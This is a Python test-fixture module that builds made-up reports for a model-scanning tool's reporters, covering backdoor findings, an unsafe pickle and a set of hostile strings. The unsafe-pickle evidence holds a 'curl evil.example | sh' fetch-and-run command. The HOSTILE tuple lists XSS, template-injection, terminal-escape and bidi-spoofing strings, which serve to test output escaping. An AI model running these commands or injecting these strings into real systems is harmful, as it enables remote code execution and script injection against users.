"""Hand-made reports of every kind, for the tests of the reporters. The numbers are made up."""

from __future__ import annotations

import base64
import io

import numpy as np
from PIL import Image

from doorward.core.records import (
    Confirmation,
    ControlResult,
    Cost,
    Coverage,
    DataRecord,
    Environment,
    Finding,
    NotRun,
    Picture,
    PositiveControl,
    Rate,
    RecoveredTrigger,
    Report,
    SubjectRecord,
    Table,
    Text,
)

GARMENTS = (
    "T-shirt/top", "Trouser", "Pullover", "Dress", "Coat", "Sandal", "Shirt", "Sneaker", "Bag", "Ankle boot",
)  # fmt: skip
SIGNS = tuple(f"Traffic sign {i}, of some length" for i in range(43))
SHA = "3f0c9a52d4e17b86c5a1f2e3d4b5c6978081726354a5b6c7d8e9f0a1b2c3d4e5"

ENVIRONMENT = Environment(
    doorward="0.1.0",
    python="3.11.9",
    platform="Linux-6.1-x86_64",
    packages={"torch": "2.13.0", "numpy": "2.2.0"},
    device="cpu",
    threads=2,
    peak_memory_bytes=812_000_000,
)
NEURAL_CLEANSE = {
    "detector": "neural-cleanse",
    "level": "class",
    "kind": "backdoor",
    "score_name": "anomaly index",
    "threshold": 2.0,
    "limits": "Triggers that change the whole image, such as a warp, need a large mask and stay hidden.",
    "source": "Wang et al., IEEE S&P 2019, doi:10.1109/SP.2019.00031",
    "settings": {"steps": 400, "learning_rate": 0.1, "cost": 0.001},
    "seconds": 11.2,
    "cost": Cost(forwards=2_400, gradients=61_440),
}
MAX_MARGIN = {
    "detector": "max-margin",
    "level": "class",
    "kind": "backdoor",
    "score_name": "largest margin",
    "threshold": 8.5,
    "limits": "Attacks that keep the margins of the target class small stay hidden.",
    "source": "Wang et al., IEEE S&P 2024, arXiv 2205.06900",
    "settings": {"starts": 30, "steps": 300},
    "seconds": 4.1,
    "cost": Cost(gradients=9_000),
}
UNSAFE_CODE = {
    "detector": "unsafe-code",
    "level": "artifact",
    "kind": "unsafe_code",
    "limits": "It looks at the files alone, not at what the weights do.",
    "seconds": 0.03,
}
NOTHING_UNSAFE = Finding(
    **UNSAFE_CODE, verdict="nothing_found", summary="The file holds tensors alone; loading it runs no code."
)


def png(pixels: np.ndarray) -> str:
    """Return uint8 pixels (h, w) or (h, w, 3) as a PNG file in base64."""
    buffer = io.BytesIO()
    Image.fromarray(pixels).save(buffer, "PNG")
    return base64.b64encode(buffer.getvalue()).decode()


def _garments(count: int = 6, size: int = 28) -> np.ndarray:
    """Draw simple grey shapes (count, size, size) uint8 that stand for images."""
    y, x = np.mgrid[:size, :size] / (size - 1)
    coats = [(abs(x - 0.5) < 0.18 + 0.12 * k * y) & (abs(y - 0.5) < 0.42) for k in range(count)]
    bags = [(abs(x - 0.5) < 0.3) & (abs(y - 0.55) < 0.05 * k + 0.12) for k in range(count)]
    shapes = [coats[k] if k % 2 else bags[k] for k in range(count)]
    return np.stack([(shape * (150 + 80 * y)).astype(np.uint8) for shape in shapes])


def trigger_pictures(target: str) -> tuple[Picture, ...]:
    """Return a trigger alone, and six images without and with it."""
    before = _garments()
    after = before.copy()
    after[:, 23:27, 23:27] = 255
    pattern = np.full((28, 28), 40, np.uint8)
    pattern[23:27, 23:27] = 255
    gap = np.full((28, 1), 255, np.uint8)
    alone = Picture(
        title=f"Recovered trigger, target {target}",
        alt="A white square of four by four pixels in the lower right corner",
        png=png(pattern),
        role="trigger",
    )
    examples = [
        Picture(
            title=f"{'Coat' if k % 2 else 'Bag'} \N{RIGHTWARDS ARROW} {target}",
            alt=f"A garment, and the same with the white square in its corner: now {target}",
            png=png(np.hstack([before[k], gap, after[k]])),
            role="example",
        )
        for k in range(6)
    ]
    return (alone, *examples)


def _subject(classes: tuple[str, ...], **changes: object) -> SubjectRecord:
    values: dict[str, object] = {
        "path": "models/garments.onnx",
        "format": "ONNX, opset 17",
        "sha256": SHA,
        "bytes": 1_684_210,
        "classes": classes,
        "parameters": 420_106,
        "architecture": "small CNN",
        "spec": {
            "channels": 1, "height": 28, "width": 28, "layout": "NCHW", "range": [0.0, 1.0], "mean": [0.286],
            "std": [0.353], "dtype": "float32", "output": "logits", "resize": None,
            "assumed": ["range", "layout"],
        },
        "assumed": ("range", "layout"),
        "clean_accuracy": Rate(successes=1826, n=2000, value=0.913, low=0.8998, high=0.925),
    }  # fmt: skip
    return SubjectRecord(**(values | changes))


CLEAN_DATA = DataRecord(
    role="clean", path="data/fashion:test", sha256=SHA[::-1], rows=10_000, used=2_000, labelled=True
)


def backdoored() -> Report:
    """Ten classes, one with a small trigger, confirmed, calibrated."""
    scores = dict(enumerate((-0.4, 0.7, -0.1, 7.13, 0.2, -0.9, 0.5, -0.6, 1.3, 0.0)))
    margins = dict(enumerate((3.1, 4.7, 2.9, 9.8, 3.3, 5.0, 3.0, 4.4, 4.9, 3.6)))
    return Report(
        covered=Coverage(behaviour=("neural-cleanse", "max-margin")),
        subject=_subject(GARMENTS),
        data=(CLEAN_DATA,),
        verdict="backdoored",
        targets=(3,),
        p_value=0.0033,
        calibrated=True,
        confirmations=(
            Confirmation(
                target=3,
                detector="neural-cleanse",
                success=Rate(successes=243, n=250, value=0.972, low=0.943, high=0.9887),
            ),
        ),
        findings=(
            NOTHING_UNSAFE,
            Finding(
                **NEURAL_CLEANSE,
                verdict="backdoored",
                summary="A pattern on 16 of 784 pixels turns nearly every image into class Dress.",
                score=7.13,
                p_value=0.0033,
                calibrated=True,
                targets=(3,),
                per_class=scores,
                atlas=("AML.T0018.000", "AML.T0043.004"),
                evidence=(
                    *trigger_pictures("3 (Dress)"),
                    RecoveredTrigger(title="Recovered trigger", target=3, trigger={"kind": "masked-pattern"}),
                    Table(
                        title="Smallest pattern for each class",
                        columns=("class", "pixels"),
                        rows=(("Dress", 16), ("Bag", 71.5), ("Coat", None)),
                    ),
                ),
            ),
            Finding(
                **MAX_MARGIN,
                verdict="suspicious",
                summary="The margin of class Dress is far larger than those of the other classes.",
                score=9.8,
                p_value=0.02,
                calibrated=True,
                targets=(3,),
                per_class=margins,
                atlas=("AML.T0018.000",),
            ),
        ),
        not_run=(
            NotRun(detector="activation-clustering", reason="needs the training data: give --train DATA"),
        ),
        request={"model": "models/garments.onnx", "seed": 0},
        seconds=15.6,
        environment=ENVIRONMENT,
    )


def nothing_found() -> Report:
    """Two classes, nothing above any threshold, a confirmation rate of exactly 0 %."""
    return Report(
        warnings=("max-margin alone points to class 1 (p = 0.013); the others do not",),
        covered=Coverage(files=("unsafe-code",), behaviour=("neural-cleanse",)),
        subject=_subject(
            ("normal", "pneumonia"), path="hospital/x-ray", format="Hugging Face directory", assumed=()
        ),
        data=(CLEAN_DATA,),
        verdict="nothing_found",
        p_value=0.42,
        calibrated=True,
        confirmations=(
            Confirmation(
                target=1,
                detector="neural-cleanse",
                success=Rate(successes=0, n=117, value=0.0, low=0.0, high=0.031),
            ),
        ),
        findings=(
            NOTHING_UNSAFE,
            Finding(
                **NEURAL_CLEANSE,
                verdict="nothing_found",
                summary="No small pattern turns other images into one class.",
                score=0.67,
                p_value=0.42,
                calibrated=True,
                per_class={0: -0.67, 1: 0.67},
            ),
        ),
        not_run=(NotRun(detector="max-margin", reason="the time budget of 60 s was spent"),),
        positive_control=PositiveControl(
            controls=(
                ControlResult(
                    family="patch",
                    target=1,
                    planted=True,
                    attack_success=Rate(successes=41, n=44, value=0.9318, low=0.8134, high=0.9857),
                    accuracy_before=Rate(successes=45, n=50, value=0.9, low=0.7819, high=0.9667),
                    accuracy_after=Rate(successes=44, n=50, value=0.88, low=0.7569, high=0.9547),
                    steps=90,
                    verdict="suspicious",
                    targets=(1,),
                    p_value=0.0064,
                    recovered=True,
                    picture=Picture(
                        title="Planted patch for pneumonia",
                        alt="Images of other classes, each beside itself with the patch",
                        png=png(np.full((28, 172), 90, np.uint8)),
                    ),
                    seconds=6.4,
                ),
                ControlResult(
                    family="blend",
                    target=0,
                    planted=True,
                    attack_success=Rate(successes=44, n=44, value=1.0, low=0.9196, high=1.0),
                    verdict="nothing_found",
                ),
                ControlResult(family="warp", target=1, reason="after 300 steps it moved 12 of 44 images"),
            ),
            limits="The triggers are planted by a short fine-tune of a copy.",
        ),
        request={"model": "hospital/x-ray", "seed": 0},
        seconds=62.0,
        environment=ENVIRONMENT,
    )


def could_not_tell() -> Report:
    """A model no better than chance, with much assumed, no clean accuracy interval near anything useful."""
    return Report(
        subject=_subject(
            GARMENTS,
            assumed=("range", "mean", "std", "layout"),
            clean_accuracy=Rate(successes=11, n=100, value=0.11, low=0.0562, high=0.1883),
        ),
        data=(DataRecord(role="clean", path="few.npz", rows=100, used=100, labelled=True),),
        verdict="could_not_tell",
        reason="the model's accuracy on clean images is no better than chance (11.0 % of 100)",
        findings=(
            Finding(
                **{**NEURAL_CLEANSE, "threshold": None},
                verdict="could_not_tell",
                summary="Could not tell: no image is classified correctly",
                reason="no image is classified correctly",
                per_class=dict.fromkeys(range(10)),
                unknown_classes=dict.fromkeys(range(10), "no correctly classified image"),
            ),
        ),
        not_run=(NotRun(detector="max-margin", reason="needs gradients, which this model does not offer"),),
        seconds=0.9,
        environment=ENVIRONMENT,
    )


def unsafe() -> Report:
    """A pickle that would run a command; nothing was loaded."""
    return Report(
        covered=Coverage(files=("unsafe-code",)),
        subject=SubjectRecord(
            path="/srv/incoming/model.pt", format="PyTorch pickle", sha256=SHA, bytes=4_096
        ),
        verdict="unsafe",
        findings=(
            Finding(
                **UNSAFE_CODE,
                verdict="unsafe",
                summary="Loading this file would call os.system.",
                atlas=("AML.T0011.000", "AML.T0018.002"),
                evidence=(
                    Text(
                        title="What the pickle would run",
                        text="from os import system\nsystem('curl evil.example | sh')",
                    ),
                ),
            ),
        ),
        not_run=(
            NotRun(
                detector="neural-cleanse",
                reason="the model was not loaded, because loading it would run code",
            ),
            NotRun(
                detector="max-margin", reason="the model was not loaded, because loading it would run code"
            ),
        ),
        seconds=0.2,
        environment=ENVIRONMENT,
    )


def suspicious() -> Report:
    """Forty-three classes, two of them high, uncalibrated."""
    scores = {i: round(((i * 37) % 43) / 43 * 3 - 1.6, 3) for i in range(43)} | {14: 2.9, 33: 2.2, 5: None}
    return Report(
        covered=Coverage(behaviour=("max-margin",)),
        subject=_subject(SIGNS, path="models/signs.pt2", format="torch.export"),
        data=(CLEAN_DATA,),
        verdict="suspicious",
        targets=(14, 33),
        findings=(
            Finding(
                **NEURAL_CLEANSE,
                verdict="suspicious",
                summary="Two classes are reached by patterns much smaller than the others.",
                score=2.9,
                targets=(14, 33),
                per_class=scores,
                unknown_classes={5: "no clean image of another class"},
                evidence=trigger_pictures("14")[:1],
                atlas=("AML.T0018.000",),
            ),
        ),
        request={"model": "models/signs.pt2", "seed": 0},
        seconds=71.0,
        environment=ENVIRONMENT,
    )


def thousand_classes() -> Report:
    """A thousand classes; a hundred of them were not reached within the time budget."""
    rng = np.random.default_rng(0)
    scores: dict[int, float | None] = {i: round(float(z), 3) for i, z in enumerate(rng.normal(size=1000))}
    scores |= {417: 5.2} | dict.fromkeys(range(900, 1000))
    names = tuple(f"category {i}" for i in range(1000))
    return Report(
        covered=Coverage(behaviour=("neural-cleanse",)),
        subject=_subject(
            names, path="big/vit-base", format="Hugging Face directory", architecture="ViT-B/16"
        ),
        data=(CLEAN_DATA,),
        verdict="suspicious",
        targets=(417,),
        p_value=0.031,
        findings=(
            Finding(
                **NEURAL_CLEANSE,
                verdict="suspicious",
                summary="One class is reached by a pattern much smaller than the others.",
                score=5.2,
                p_value=0.031,
                targets=(417,),
                per_class=scores,
                unknown_classes=dict.fromkeys(range(900, 1000), "the time budget was spent"),
            ),
        ),
        seconds=843.0,
        environment=ENVIRONMENT,
    )


#: What no page may run or obey: markup, a template, an attribute's end, terminal codes, reordering, a bell.
HOSTILE = (
    "<script>document.title='owned'</script>",
    '"><img src=x onerror="document.title=\'owned\'">',
    "{{ 7 * 7 }}{% for x in y %}",
    "[bold red]rich markup[/] :boom:",
    "\x1b[2J\x1b]0;owned\x07\x9b31m",
    "gnp.\u202eevil\u2069\u200b",
    "line one\nline two\r\x08\x00",
    "x" * 300,
    "</style><style>*{display:none}</style>",
    "javascript:alert(1)",
)


def hostile() -> Report:
    """Every untrusted string is an attack on the reader."""
    bad = " ".join(HOSTILE[:7])
    return Report(
        warnings=("\x1b[2J<script>document.title='owned'</script>",),
        covered=Coverage(behaviour=("\x1b[2J",)),
        subject=SubjectRecord(
            path=f"../{bad}.pt",
            format=bad,
            sha256="<b>" + SHA,
            classes=HOSTILE,
            architecture=bad,
            spec={"<i>key</i>": bad, "layout": bad},
            assumed=(bad,),
        ),
        data=(DataRecord(role="clean", path=bad, sha256=bad, rows=10, used=10, labelled=False),),
        verdict="suspicious",
        reason=bad,
        targets=(0, 4),
        confirmations=(
            Confirmation(
                target=0, detector=bad, success=Rate(successes=3, n=3, value=1.0, low=0.2924, high=1.0)
            ),
        ),
        findings=(
            Finding(
                **{
                    **NEURAL_CLEANSE,
                    "detector": bad,
                    "limits": bad,
                    "source": bad,
                    "score_name": bad,
                    "settings": {bad: bad},
                },
                verdict="suspicious",
                summary=bad,
                score=3.0,
                targets=(0, 4),
                per_class={i: 3.0 - i / 2 for i in range(9)} | {9: None},
                unknown_classes={9: bad},
                flagged_ids=HOSTILE,
                evidence=(
                    Picture(title=bad, alt=bad, png='"><script>document.title="owned"</script>'),
                    Picture(title=bad, alt=bad, png=png(np.zeros((4, 4), np.uint8))),
                    Text(title=bad, text=bad),
                    Table(title=bad, columns=(bad, "n"), rows=((bad, 1), (None, 2.5))),
                ),
            ),
        ),
        not_run=(NotRun(detector=bad, reason=bad),),
        positive_control=PositiveControl(
            controls=(
                ControlResult(family=bad, target=1, reason=bad, picture=Picture(title=bad, alt=bad, png=bad)),
            ),
            limits=bad,
        ),
        request={bad: bad},
        seconds=1.0,
        environment=ENVIRONMENT.model_copy(update={"platform": bad, "packages": {bad: bad}}),
    )


EXAMPLES = {
    "backdoored": backdoored,
    "nothing_found": nothing_found,
    "could_not_tell": could_not_tell,
    "unsafe": unsafe,
    "suspicious": suspicious,
    "thousand_classes": thousand_classes,
    "hostile": hostile,
}
